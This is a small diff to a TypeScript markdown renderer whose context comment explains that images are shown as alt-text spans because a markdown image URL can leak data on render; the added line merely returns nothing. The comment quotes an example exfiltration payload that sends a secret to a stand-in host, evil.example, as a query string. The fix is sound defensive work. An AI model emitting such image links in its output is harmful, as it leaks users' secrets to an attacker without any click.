@@ -98,6 +98,7 @@ export function renderInlineTokens(tokens: InlineToken[], context: MarkdownConte
         // (`![x](https://evil.example/?q=<secret>)` leaks on render, no click needed).
         return html`<span class="image-alt">[${context.strings.image}${token.alt ? `: ${token.alt}` : ''}]</span>`;
     }
+    return nothing;
   });
 }
 
